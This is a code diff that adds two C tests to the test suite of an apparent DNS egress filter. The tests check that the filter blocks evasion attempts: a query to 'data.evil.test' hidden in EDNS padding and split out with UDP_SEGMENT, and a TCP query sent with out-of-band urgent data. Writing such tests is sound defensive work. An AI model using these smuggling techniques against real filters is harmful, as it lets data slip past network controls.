@@ -3,6 +3,7 @@
 #include <errno.h>
 #include <netinet/in.h>
 #include <netinet/tcp.h>
+#include <netinet/udp.h>
 #include <string.h>
 #include <sys/wait.h>
 #include <unistd.h>
@@ -597,6 +598,66 @@ static void test_server_is_direct_too(void **state) {
 	assert_asked(0);
 }
 
+/*
+ * One write that the kernel cuts into datagrams: as a whole it is a good question with padding, but the padding is
+ * another question, which would leave by itself.
+ */
+static int send_in_segments(void *argument) {
+	static struct bytes hidden, padding, whole;
+	int fd = open_socket(argument), size;
+
+	dns_make_question(&hidden, NUMBER, "data.evil.test", SNIF_DNS_A);
+	padding.length = 0;
+	bytes_number(&padding, 2, SNIF_EDNS_PADDING);
+	bytes_number(&padding, 2, (uint32_t)hidden.length + 32);
+	dns_make_question(&whole, NUMBER, "allowed.lab.test", SNIF_DNS_A);
+	size = (int)whole.length + 11 + 4;
+	bytes_add(&padding, hidden.data, hidden.length);
+	bytes_fill(&padding, 0, 32);
+	dns_add_options(&whole, padding.data, padding.length);
+	if (setsockopt(fd, IPPROTO_UDP, UDP_SEGMENT, &size, sizeof(size)))
+		return -errno;
+	return send(fd, whole.data, whole.length, 0) < 0 ? -errno : 0;
+}
+
+static void test_cut_by_the_kernel(void **state) {
+	struct lookup *lookup;
+
+	(void)state;
+	begin(POLICY, answer_honestly);
+	lookup = lab_shared(sizeof(*lookup));
+	assert_int_equal(lab_inside(send_in_segments, lookup), -EPERM);
+	expect_lookup();
+	lab_expect(SNIF_DENY, SNIF_REASON_DNS_QUESTION);
+	lab_sleep_ms(100);
+	assert_asked(0);
+}
+
+/* The last byte is out of band, and the server leaves it out of what it reads. */
+static int send_urgently(void *argument) {
+	static struct bytes question, framed;
+	int fd = open_socket(argument);
+
+	dns_make_question(&question, NUMBER, "allowed.lab.test", SNIF_DNS_A);
+	dns_frame(&framed, &question);
+	if (fd < 0 || send(fd, framed.data, framed.length, MSG_OOB) != (ssize_t)framed.length)
+		return -errno;
+	return lab_receive(fd, framed.data, 2) == 2;
+}
+
+static void test_urgent_data(void **state) {
+	struct lookup *lookup;
+
+	(void)state;
+	begin(POLICY, answer_honestly);
+	lookup = lab_shared(sizeof(*lookup));
+	lookup->tcp = true;
+	assert_int_equal(lab_inside(send_urgently, lookup), 0);
+	expect_lookup();
+	lab_expect(SNIF_DENY, SNIF_REASON_DNS_QUESTION);
+	assert_asked(0);
+}
+
 static void test_https_denied(void **state) {
 	struct lookup *lookup;
 
@@ -702,6 +763,8 @@ int main(void) {
 		dns_test(test_names_of_the_policy),
 		dns_test(test_questions_that_carry_data),
 		dns_test(test_server_is_direct_too),
+		dns_test(test_cut_by_the_kernel),
+		dns_test(test_urgent_data),
 		dns_test(test_https_denied),
 		dns_test(test_over_tcp),
 		dns_test(test_refused_over_tcp),
